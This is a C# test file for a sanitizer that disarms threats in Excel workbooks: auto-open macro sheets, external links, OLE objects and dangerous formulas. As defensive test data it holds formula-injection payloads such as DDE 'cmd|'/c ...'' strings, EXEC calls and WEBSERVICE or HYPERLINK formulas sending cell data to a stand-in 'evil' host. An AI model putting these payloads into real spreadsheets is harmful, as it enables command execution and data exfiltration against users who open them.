using Sekisho.Sanitizer.Ooxml.Rules;
using Sekisho.Sanitizer.Rules;

namespace Sekisho.Sanitizer.Tests.Ooxml;

public sealed class SheetThreatTests
{
    private const string Data = "<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row></sheetData>";

    [Fact]
    public void X04_Macro_sheets_and_names_that_start_them_go_and_the_others_are_counted_anew()
    {
        var made = WithMacroSheet();
        WordThreatTests.Gone(made, "a.xlsm", ["X-03", "X-04"], ["MARK", "Auto_Open", "macrosheet", "EXEC"], out var result);
        var text = IndependentReader.Text(result.Out);
        Assert.Contains("localSheetId=\"0\"", text, StringComparison.Ordinal);
        Assert.Contains("残る表", text, StringComparison.Ordinal);
        Assert.Equal("SAN-OOXML-006", Bench.Run("a.xlsm", OnlyMacros().Bytes()).Report.Refusal!.Code);

        static Made WithMacroSheet() => new Made().Root("xl/workbook.xml").Part("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", $"<workbook {Made.X}><bookViews><workbookView activeTab=\"1\"/></bookViews><sheets><sheet name=\"MARK\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/><sheet name=\"残る表\" sheetId=\"2\" r:id=\"rId2\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">MARK!$A$1</definedName><definedName name=\"_xlnm.Print_Area\" localSheetId=\"1\">残る表!$A$1</definedName><definedName name=\"f\" function=\"1\" vbProcedure=\"1\">1</definedName></definedNames></workbook>")
            .To("xl/workbook.xml", "rId1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml").To("xl/workbook.xml", "rId2", "worksheet", "worksheets/sheet1.xml")
            .Part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", $"<xm:macrosheet {Made.X} xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"cmd MARK\")</f></c></row></sheetData></xm:macrosheet>")
            .Part("xl/worksheets/sheet1.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>");

        static Made OnlyMacros() => new Made().Root("xl/workbook.xml").Part("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", $"<workbook {Made.X}><sheets><sheet name=\"M\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>")
            .To("xl/workbook.xml", "rId1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "m.xml").Part("xl/m.xml", "application/vnd.ms-excel.macrosheet+xml", "<x/>");
    }

    [Theory]
    [InlineData("WEBSERVICE(\"http://evil/MARK\"&A1)", "X-13")]
    [InlineData("_xlfn.WEBSERVICE(\"http://evil/MARK\")", "X-13")]
    [InlineData("SUM(1,webservice (\"MARK\"))", "X-13")]
    [InlineData("CALL(\"urlmon\",\"MARK\",\"JJCCJJ\")", "X-13")]
    [InlineData("REGISTER.ID(\"MARK\",\"x\")", "X-13")]
    [InlineData("RTD(\"MARK\",,\"x\")", "X-13")]
    [InlineData("IMAGE(\"http://evil/MARK\")", "X-13")]
    [InlineData("MyMacroMARK(A1)", "X-13")]
    [InlineData("cmd|'/c MARK'!A0", "X-11")]
    [InlineData("'cmd'|'/c MARK'!A0", "X-11")]
    [InlineData("[1]MARK!A1", "X-12")]
    [InlineData("[1]!MARK", "X-12")]
    [InlineData("[MARK.xlsx] Sheet1!A1", "X-12")]
    [InlineData("[金額]+[MARK.xlsx]!x", "X-12")]
    [InlineData("[cmd|'MARK'!A0]", "X-12")]
    [InlineData("SUM('[2]MARK'!A1:B2)", "X-12")]
    [InlineData("'C:\\[MARK.xlsx]Sheet1'!A1", "X-12")]
    [InlineData("MARK!A1", "X-12")]
    [InlineData("HYPERLINK(\"file://evil/MARK\",\"x\")", "X-19")]
    [InlineData("HYPERLINK(A1&\"MARK\")", "X-19")]
    [InlineData("HYPERLINK(\"https://ok\"&\".evil/MARK\")", "X-19")]
    public void X11_X12_X13_X19_A_dangerous_formula_leaves_its_last_value(string formula, string threat)
    {
        var xml = formula.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal);
        var sheet = $"<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>{xml}</f><v>最後の値</v></c><c r=\"B1\"><f t=\"shared\" ref=\"B1:B3\" si=\"0\">{xml}</f><v>11</v></c></row><row r=\"2\"><c r=\"B2\"><f t=\"shared\" si=\"0\"/><v>22</v></c></row><row r=\"3\"><c r=\"A3\"><f>SUM(1,2)</f><v>3</v></c></row></sheetData>"
            + $"<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>{xml}</formula></cfRule></conditionalFormatting><dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"C1\"><formula1>{xml}</formula1></dataValidation></dataValidations>"
            + $"<extLst><ext uri=\"{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}\"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" priority=\"2\" id=\"{{1}}\"><xm:f>{xml}</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>";
        WordThreatTests.Gone(Made.Book(sheet, $"<definedNames><definedName name=\"n\">{xml}</definedName></definedNames>"), "a.xlsx", [threat], ["MARK"], out var result);
        var text = IndependentReader.Text(result.Out);
        foreach (var kept in new[] { "<v>最後の値</v>", "<v>11</v>", "<v>22</v>", "<f>SUM(1,2)</f>" }) Assert.Contains(kept, text, StringComparison.Ordinal);
        foreach (var gone in new[] { "cfRule", "dataValidation", "shared", "definedName" }) Assert.DoesNotContain(gone, text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("SUM(A1:B2,'表'!C3)")]
    [InlineData("VLOOKUP($A$1,表!$A:$C,3,FALSE)")]
    [InlineData("Table1[[#This Row],[金額 '[税込']]]")]
    [InlineData("_xlfn.XLOOKUP(A1,B:B,C:C,\"a|b [1]x!\")")]
    [InlineData("SUBTOTAL(109,[金額])")]
    [InlineData("[単価]*[数量]+表[[#This Row],[消費税]]")]
    [InlineData("{1,2;3,4}")]
    [InlineData("HYPERLINK(\"#表!A1\",\"上へ\")")]
    [InlineData("HYPERLINK(\"https://www.example.lg.jp/?q=\"&A1,\"検索\")")]
    [InlineData("_xlfn.LET(_xlpm.x,1,_xlpm.x+1)")]
    [InlineData("1.5E+3*A1%")]
    [InlineData("IF(A1=\"\",\"\",#REF!)")]
    [InlineData("SUM(表:表!A1)")]
    public void Harmless_formulas_stay(string formula)
    {
        var formulas = new Formulas(SanitizePolicy.Default);
        formulas.Know(["表"]);
        Assert.Null(formulas.Judge(formula));
    }

    [Fact]
    public void X12_A_name_that_reached_outside_takes_the_formulas_with_it_that_use_it()
    {
        WordThreatTests.Gone(Made.Book("<sheetData><row r=\"1\"><c r=\"A1\"><f>MARKname*2</f><v>8</v></c><c r=\"B1\"><f>MARKsecond+1</f><v>9</v></c></row></sheetData>", "<definedNames><definedName name=\"MARKsecond\">MARKname+1</definedName><definedName name=\"MARKname\">[1]x!A1</definedName></definedNames>"), "a.xlsx", ["X-12", "X-13"], ["MARK"], out var result);
        Assert.Contains("<v>9</v>", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X11_X12_X14_Links_connections_and_what_they_fill_go()
    {
        var made = Made.Book(Data + "<tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>")
            .Part("xl/externalLinks/externalLink1.xml", Made.Open + "spreadsheetml.externalLink+xml", $"<externalLink {Made.X}><ddeLink ddeService=\"cmd\" ddeTopic=\"MARK\"/></externalLink>").To("xl/workbook.xml", "rId5", "externalLink", "externalLinks/externalLink1.xml")
            .Part("xl/externalLinks/externalLink2.xml", Made.Open + "spreadsheetml.externalLink+xml", $"<externalLink {Made.X}><externalBook r:id=\"rId1\"/></externalLink>").To("xl/workbook.xml", "rId6", "externalLink", "externalLinks/externalLink2.xml").To("xl/externalLinks/externalLink2.xml", "rId1", "externalLinkPath", "file://evil/MARK.xlsx", true)
            .Part("xl/connections.xml", Made.Open + "spreadsheetml.connections+xml", "<connections>MARK</connections>").To("xl/workbook.xml", "rId7", "connections", "connections.xml")
            .Part("xl/tables/table1.xml", Made.Open + "spreadsheetml.table+xml", $"<table {Made.X} id=\"1\" name=\"T\" displayName=\"T\" ref=\"A1:A2\" tableType=\"queryTable\"><tableColumns count=\"1\"><tableColumn id=\"1\" name=\"a\" queryTableFieldId=\"7\"/></tableColumns></table>").To("xl/worksheets/sheet1.xml", "rId1", "table", "../tables/table1.xml")
            .Part("xl/queryTables/queryTable1.xml", Made.Open + "spreadsheetml.queryTable+xml", "<queryTable>MARK</queryTable>").To("xl/tables/table1.xml", "rId1", "queryTable", "../queryTables/queryTable1.xml")
            .Part("customXml/item1.xml", "", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">MARK</DataMashup>").To("xl/workbook.xml", "rId8", "customXml", "../customXml/item1.xml")
            .Part("xl/pivotCache/p.xml", Made.Open + "spreadsheetml.pivotCacheDefinition+xml", $"<pivotCacheDefinition {Made.X}><cacheSource type=\"external\" connectionId=\"1\"/><cacheFields count=\"1\"><cacheField name=\"MARK\"/></cacheFields></pivotCacheDefinition>").To("xl/workbook.xml", "rId9", "pivotCacheDefinition", "pivotCache/p.xml");
        WordThreatTests.Gone(made, "a.xlsx", ["X-11", "X-12", "X-14", "X-21"], ["MARK", "externalLink", "connections", "queryTable"], out var result);
        Assert.Contains("displayName=\"T\"", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X06_X09_Objects_on_a_sheet_become_pictures_in_their_place_and_controls_go()
    {
        var made = Made.Book(Data + "<legacyDrawing r:id=\"rId1\"/><oleObjects><mc:AlternateContent><mc:Choice xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" Requires=\"x14\"><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId2\"><objectPr defaultSize=\"0\" r:id=\"rId3\"><anchor><from><xdr:col xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">2</xdr:col><xdr:colOff xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">0</xdr:colOff><xdr:row xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">3</xdr:row><xdr:rowOff xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">0</xdr:rowOff></from><to><xdr:col xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">4</xdr:col><xdr:colOff xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">0</xdr:colOff><xdr:row xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">9</xdr:row><xdr:rowOff xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\">0</xdr:rowOff></to></anchor></objectPr></oleObject></mc:Choice><mc:Fallback><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId2\"/></mc:Fallback></mc:AlternateContent></oleObjects><controls><control shapeId=\"1026\" r:id=\"rId4\" name=\"MARK\"/></controls>")
            .Part("xl/drawings/vmlDrawing1.vml", "", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"_x0000_s1025\" type=\"#t\"><v:imagedata o:relid=\"rId1\"/><x:ClientData ObjectType=\"Pict\"><x:Anchor>2,0,3,0,4,0,9,0</x:Anchor></x:ClientData></v:shape><v:shape id=\"_x0000_s1026\"><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!MARKmacro</x:FmlaMacro></x:ClientData></v:shape><v:shape id=\"_x0000_s1027\"><x:ClientData ObjectType=\"Note\"><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>").To("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml").To("xl/drawings/vmlDrawing1.vml", "rId1", "image", "../media/image1.png")
            .Part("xl/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject", "MARK-OLE").To("xl/worksheets/sheet1.xml", "rId2", "oleObject", "../embeddings/o.bin").Part("xl/media/image1.png", "", Made.Png).To("xl/worksheets/sheet1.xml", "rId3", "image", "../media/image1.png")
            .Part("xl/ctrlProps/c.xml", "application/vnd.ms-excel.controlproperties+xml", "<x>MARK</x>").To("xl/worksheets/sheet1.xml", "rId4", "ctrlProp", "../ctrlProps/c.xml");
        WordThreatTests.Gone(made, "a.xlsx", ["X-06", "X-09"], ["MARK", "oleObject", "<control", "FmlaMacro", "Button"], out var result);
        var text = IndependentReader.Text(result.Out);
        Assert.Contains("<xdr:pic>", text, StringComparison.Ordinal);
        Assert.Contains("<xdr:col>2</xdr:col>", text, StringComparison.Ordinal);
        Assert.Contains("ObjectType=\"Note\"", text, StringComparison.Ordinal);
        Assert.Matches("<drawing r:id=\"[^\"]+\"/><legacyDrawing", text);
    }

    [Fact]
    public void X24_Hidden_sheets_are_told_or_refused()
    {
        Made Make() => new Made().Root("xl/workbook.xml").Part("xl/workbook.xml", Made.Open + "spreadsheetml.sheet.main+xml", $"<workbook {Made.X}><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"裏\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets></workbook>")
            .To("xl/workbook.xml", "rId1", "worksheet", "worksheets/sheet1.xml").To("xl/workbook.xml", "rId2", "worksheet", "worksheets/sheet2.xml")
            .Part("xl/worksheets/sheet1.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>").Part("xl/worksheets/sheet2.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>");
        Assert.Contains(Make().Disarm("a.xlsx").Report.Notes, static n => n.Code == "SAN-NOTE-HIDDEN" && n.Place == "裏");
        Assert.Equal("SAN-OOXML-005", Bench.Run("a.xlsx", Make().Bytes(), Bench.Policy("office:\n  hidden: refuse\n")).Report.Refusal!.Code);
    }

    [Theory]
    [InlineData("file://evil/MARK", false)]
    [InlineData("https://www.example.lg.jp/", true)]
    [InlineData("#表!A1", true)]
    public void X19_Links_of_cells_follow_the_policy(string address, bool stays)
    {
        var made = Made.Book(Data + "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"A2\" location=\"表!B2\" display=\"下\"/></hyperlinks>").To("xl/worksheets/sheet1.xml", "rId1", "hyperlink", address, true);
        var text = IndependentReader.Text(made.Disarm("a.xlsx").Out);
        Assert.Equal(stays, text.Contains(address + "\"", StringComparison.Ordinal));
        Assert.Contains("location=\"表!B2\"", text, StringComparison.Ordinal);
    }
}
